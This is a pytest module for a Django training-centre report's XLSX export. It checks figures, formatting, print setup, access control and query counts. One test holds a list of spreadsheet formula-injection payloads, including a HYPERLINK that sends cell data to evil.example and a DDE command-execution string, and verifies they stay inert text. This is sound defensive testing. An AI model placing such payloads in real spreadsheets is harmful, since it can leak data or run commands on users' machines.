"""The report's workbook against the hand-worked fixture (conftest.py).

Cells are read back with openpyxl: counts are numbers, shares are the page's
Decimal fractions with a percent format, dates are dates, and text from users
never becomes a formula; the file is never cached and its name is ASCII.
"""

import datetime
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from django_scopes import scopes_disabled

from courses.models import ClassType, CoOrganizer
from reports import counting, scope
from reports.exports.report import SHEETS, ReportWorkbook
from tests.factories import (
    make_class,
    make_enrollment,
    make_lecturer,
    make_organization,
    make_session,
    make_trainee,
)
from tests.reports.conftest import EXPECTED, committee_over
from trainingcenter.percent import ungraded_shares

YEAR = {"kind": "year", "year": 2026}
# Biểu 1 from its third column on, as figures_cells.html lists them.
GRADE_NAMES = ["excellent", "good", "average", "failed"]
FIGURES = [
    "target_classes", "target_trainees", "classes", "enrolled",
    "plan_classes_share", "plan_trainees_share", "women", "minorities",
    "cluster_classes", "co_organized_classes", "completed", "passed", "certified",
    *(name for grade in GRADE_NAMES for name in (grade, f"{grade}_share")),
]  # fmt: skip
SHARES = {"plan_classes_share", "plan_trainees_share"}
# The share of each grade has a column of its own after the grade's count.
GRADE_SHARES = {f"{grade}_share" for grade in GRADE_NAMES}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "=cmd|' /C calc'!A0",
    "+84 912 345 678",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
]


def download(user, center=None, organization=None, query=YEAR):
    client = Client()
    client.force_login(user)
    if organization is not None:
        url = reverse("org_report_xlsx", args=[organization.pk])
    else:
        url = reverse("reports:report_xlsx", args=[center.slug])
    return client.get(url, query)


def book(response):
    return openpyxl.load_workbook(io.BytesIO(response.content))


def row_of(sheet, column, value):
    """The cells of the first row whose `column` (0-based) holds `value`."""
    for row in sheet.iter_rows():
        if row[column].value == value:
            return row
    raise AssertionError(f"no row with {value!r} in {sheet.title}")


def header_rows(sheet) -> tuple[int, int]:
    """The first and last header rows: those repeated on every printed page."""
    first, last = re.fullmatch(r"\$(\d+):\$(\d+)", sheet.print_title_rows).groups()
    return int(first), int(last)


def body(sheet):
    return list(sheet.iter_rows(min_row=header_rows(sheet)[1] + 1))


def vi(msgid, plural=None, count=None):
    """The text the workbook shows: the interface opens in Vietnamese."""
    with translation.override("vi"):
        if plural:
            return translation.ngettext(msgid, plural, count)
        return translation.gettext(msgid)


def assert_share(cell, expected):
    if expected is None:
        assert cell.value == "–", cell.coordinate
    else:
        assert isinstance(cell.value, float), cell.coordinate
        assert cell.value == float(expected), cell.coordinate
        assert "%" in cell.number_format, cell.coordinate


def assert_count(cell, expected):
    assert type(cell.value) is int and cell.value == expected, (
        cell.coordinate,
        cell.value,
        expected,
    )
    assert cell.number_format == "#,##0", cell.coordinate


def assert_figures(row, expected: dict):
    counts = {g: expected.get(g, 0) for g in GRADE_NAMES}
    passes = expected.get("listed_passed", 0)
    ungraded = passes - sum(counts.values()) + counts["failed"]
    grade_shares = ungraded_shares(counts, ungraded)
    if not sum(counts.values()):
        grade_shares = dict.fromkeys(GRADE_NAMES)
    for index, name in enumerate(FIGURES, start=2):
        if name in GRADE_SHARES:
            assert_share(row[index], grade_shares[name.removesuffix("_share")])
        elif name in SHARES:
            if name in expected:
                assert_share(row[index], expected[name])
        elif name in ("women", "minorities") and expected.get(
            "unlisted"
        ) == expected.get("enrolled"):
            assert row[index].value is None, row[index].coordinate  # not known
        else:
            assert_count(row[index], expected.get(name, 0))


def programme_names():
    with scopes_disabled():
        return dict(ClassType.objects.values_list("code", "name"))


@pytest.mark.django_db
def test_download_is_a_private_attachment(report_site):
    response = download(report_site.staff, report_site.center)
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == (
        'attachment; filename="bao-cao-trung-tam-chinh-tri-a-2026.xlsx"'
    )
    assert response["Cache-Control"] == "no-store"  # kept out of caches
    assert book(response).sheetnames == list(SHEETS)


@pytest.mark.django_db
def test_bieu_1_has_the_page_figures(report_site):
    sheet = book(download(report_site.staff, report_site.center))["Biểu 1"]
    names = programme_names()
    for code in ("nhan-thuc-ve-dang", "dang-vien-moi", "chinh-tri-he"):
        row = row_of(sheet, 1, names[code])
        assert_figures(row, EXPECTED[code])
    assert row_of(sheet, 1, names["chinh-tri-he"])[23].value == (
        "Phòng Văn hóa – Xã hội"
    )
    # With no plan, a share has nothing to divide by: "–", as on the page.
    assert row_of(sheet, 1, names["chinh-tri-he"])[6].value == "–"
    total = row_of(sheet, 0, vi("TOTAL"))
    assert_figures(total, EXPECTED["total"])
    assert total[0].font.b and all(cell.font.b for cell in total[2:23])
    assert f"A{total[0].row}:B{total[0].row}" in sheet.merged_cells
    # Section and block subtotals are bold rows over "No." and the name.
    # (the summer class outside the plan is part IV, not in bồi dưỡng's 35).
    section = row_of(sheet, 0, vi("II. REFRESHER COURSES"))
    assert section[0].font.b and section[5].value == 35
    outside = row_of(sheet, 0, vi("IV. CLASSES OUTSIDE THE PLAN"))
    assert outside[0].font.b and (outside[4].value, outside[5].value) == (1, 2)
    block = next(r for r in sheet.iter_rows() if str(r[0].value).startswith("A. "))
    assert block[0].font.b and block[5].value == 35


@pytest.mark.django_db
def test_sheets_are_set_up_to_read_and_print(report_site):
    workbook = book(download(report_site.staff, report_site.center))
    sheet = workbook["Biểu 1"]
    # Title block: the issuing body, the report's name with its period.
    assert sheet["A1"].value == report_site.center.superior_body_line
    assert sheet["A3"].value == vi(
        "REPORT ON THE RESULTS OF POLITICAL THEORY EDUCATION %(period)s"
    ) % {"period": (vi("year %(year)s") % {"year": 2026}).upper()}
    assert "A3:X3" in sheet.merged_cells  # centred over the table
    # Two header rows: groups ("Plan") merged over their columns.
    first, last = header_rows(sheet)
    assert (first, last) == (6, 7)
    assert sheet["C6"].value == vi("Plan") and "C6:D6" in sheet.merged_cells
    assert sheet["C7"].value == vi("Classes") and "A6:A7" in sheet.merged_cells
    assert sheet["C7"].font.b and sheet["C7"].alignment.wrap_text
    assert sheet.freeze_panes == "C8"  # headers, "No." and the programme stay
    # Rows are as tall as their wrapped text: neither Excel nor LibreOffice
    # grows them for a file written by a program.
    assert sheet.row_dimensions[7].height >= 30  # "At commune clusters (classes)"
    # The partners under the table: one wrapped line across its width.
    label = vi("Co-organised with")
    note = next(c for c in sheet["A"] if str(c.value).startswith(label))
    assert f"A{note.row}:X{note.row}" in sheet.merged_cells
    for sheet in workbook:
        setup = sheet.page_setup
        assert int(setup.paperSize) == 9, sheet.title  # A4
        assert int(setup.fitToWidth) == 1 and int(setup.fitToHeight) == 0
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        assert sheet.freeze_panes and sheet.print_title_rows, sheet.title
        widths = [d.width for d in sheet.column_dimensions.values()]
        assert max(widths) >= 28 and min(widths) >= 6, sheet.title  # names fit
    assert workbook["Biểu 1"].page_setup.orientation == "landscape"
    assert workbook["Đơn vị cử"].page_setup.orientation == "portrait"


@pytest.mark.django_db
def test_quality_lecturers_and_units(report_site):
    workbook = book(download(report_site.staff, report_site.center))
    total = EXPECTED["total"]
    row = row_of(workbook["Chất lượng"], 0, vi("TOTAL"))
    for index, name in enumerate(["enrolled", "completed", "passed", "certified"], 1):
        assert_count(row[index], total[name])
    # Each grade: a count and its share of those assessed: 1 of 6, since the
    # summer course's two passes have no grade (the historic class's
    # declared passes are not assessed here).
    for index in (5, 7, 9, 11):
        assert_count(row[index], 1)
        assert_share(row[index + 1], Decimal("0.167"))
    assert_count(row[13], total["attended"])
    assert_count(row[14], total["attendance_records"])
    assert_share(row[15], total["attendance_share"])

    lecturers = workbook["Biểu 2"]
    for name, (sessions, periods) in EXPECTED["lecturers"].items():
        row = row_of(lecturers, 1, name)
        assert_count(row[5], sessions)
        assert_count(row[6], periods)
    kinds = [r for r in body(lecturers) if r[0].font.b]
    assert [r[6].value for r in kinds] == [5, 4]  # full-time, concurrent
    assert kinds[0][0].value == "{}: 1 {}".format(vi("Full-time"), vi("lecturers"))

    units = body(workbook["Đơn vị cử"])
    assert [tuple(c.value for c in row[1:]) for row in units] == EXPECTED["units"]


@pytest.mark.django_db
def test_class_list_has_every_class_of_the_period(report_site):
    sheet = book(download(report_site.staff, report_site.center))["Danh sách lớp"]
    *classes, total = body(sheet)
    yes, no = vi("Yes"), vi("No")
    # Four classes of 2026; neither last year's nor centre B's.
    assert [r[0].value for r in classes] == [1, 2, 3, 4]
    assert {r[1].value for r in classes} == {"Trung tâm Chính trị A"}
    first_class = classes[0]
    assert first_class[4].value == datetime.datetime(2026, 3, 2)
    assert first_class[4].number_format == "dd/mm/yyyy"
    assert first_class[5].value == datetime.datetime(2026, 3, 6)
    assert [r[3].value for r in classes] == ["khóa I", "khóa I", "khóa I", "khóa II"]
    assert [r[7].value for r in classes] == [yes, yes, no, yes]  # in plan
    assert [r[8].value for r in classes] == [no, no, yes, no]
    assert [r[9].value for r in classes] == [3, 30, 2, 2]
    # The total row sums what Biểu 1 sums.
    assert total[0].value == vi("TOTAL") and total[0].font.b
    for index, name in zip(
        range(9, 13), ["enrolled", "completed", "passed", "certified"], strict=True
    ):
        assert_count(total[index], EXPECTED["total"][name])
    assert sheet.auto_filter.ref == "A6:M10"  # header and classes, not the total


@pytest.mark.django_db
def test_text_from_users_is_never_a_formula(report_site):
    """Units, partners, lecturers, intakes and venues that look like formulas
    stay text."""
    center = report_site.center
    with scopes_disabled():
        training_class = make_class(
            center,
            start_date=datetime.date(2026, 11, 2),
            end_date=datetime.date(2026, 11, 6),
            intake_label=HOSTILE[1],
            venue=HOSTILE[3],
        )
        for text in HOSTILE:
            make_enrollment(
                training_class,
                make_trainee(center, full_name="Nguyễn Văn Bảy"),
                unit=make_organization(name=text),
            )
        CoOrganizer.objects.create(
            training_class=training_class,
            organization=make_organization(name=HOSTILE[4]),
            role=CoOrganizer.Role.PARTNER,
        )
        lecturer = make_lecturer(
            center, full_name=HOSTILE[3], position=HOSTILE[0], qualifications=HOSTILE[5]
        )
        make_session(training_class, lecturer=lecturer, periods=3)
    response = download(report_site.staff, center)
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name
    workbook = book(response)
    found = set()
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str) and any(
                    text in cell.value for text in HOSTILE
                ):
                    assert cell.data_type == "s"
                    found.add(cell.value)
    assert set(HOSTILE) <= found
    # The numbers beside them keep their types.
    unit = row_of(workbook["Đơn vị cử"], 1, "+84 912 345 678")
    assert_count(unit[2], 1)
    lecturer_row = row_of(workbook["Biểu 2"], 1, "-2+3")
    assert_count(lecturer_row[6], 3)


@pytest.mark.django_db
def test_a_bad_period_is_refused_with_the_pages_message(report_site):
    response = download(
        report_site.staff,
        report_site.center,
        query={"kind": "term", "from_year": 2026, "to_year": 2020},
    )
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "is-invalid" in response.content.decode()


@pytest.mark.django_db
def test_another_centres_report_is_404(report_site, site_b):
    for role in ("staff", "director", "committee"):
        response = download(site_b.user(role), report_site.center)
        assert response.status_code == 404, role


@pytest.mark.django_db
def test_committee_downloads_its_subtree(report_site, site_b):
    province, committee = committee_over(report_site.center, site_b.center)
    response = download(committee, organization=province)
    assert response.status_code == 200
    assert response["Cache-Control"] == "no-store"
    assert "bao-cao-tinh-uy-lam-dong-2026.xlsx" in response["Content-Disposition"]
    workbook = book(response)
    total = row_of(workbook["Biểu 1"], 0, vi("TOTAL"))
    assert total[5].value == EXPECTED["total"]["enrolled"] + 1  # centre B's class
    assert row_of(
        workbook["Biểu 1"],
        0,
        vi("%(label)s: %(counter)s centre", "%(label)s: %(counter)s centres", 2)
        % {"label": "Tỉnh ủy Lâm Đồng", "counter": 2},
    )
    centres = [r[1].value for r in body(workbook["Danh sách lớp"])[:-1]]
    assert centres == ["Trung tâm Chính trị A"] * 4 + ["Trung tâm Chính trị B"]
    # Several centres: Biểu 2 says whose lecturer each is.
    assert row_of(workbook["Biểu 2"], 1, "Trần Văn Bình")[2].value == (
        "Trung tâm Chính trị A"
    )
    # A centre's staff, or a committee elsewhere, get the same 404.
    assert download(report_site.staff, organization=province).status_code == 404
    assert download(site_b.committee, organization=province).status_code == 404


@pytest.mark.django_db
def test_class_list_is_one_query_whatever_its_length(report_site):
    """The list is streamed from one query (memory: see docs/performance.md)."""
    target = scope.for_center(report_site.center)
    period = counting.Period.year(2026)
    with scopes_disabled():
        report = counting.build_report(
            target.centers, period, scope_label=target.label, issuer=target.issuer
        )
        with CaptureQueriesContext(connection) as before:
            ReportWorkbook(report, target.centers).export()
        for day in range(1, 25):
            make_class(
                report_site.center,
                start_date=datetime.date(2026, 4, day),
                end_date=datetime.date(2026, 4, day),
            )
        with CaptureQueriesContext(connection) as after:
            _, _, content = ReportWorkbook(report, target.centers).export()
    assert len(after) == len(before) == 1
    sheet = openpyxl.load_workbook(io.BytesIO(content))["Danh sách lớp"]
    assert sheet.max_row == 6 + 4 + 24 + 1
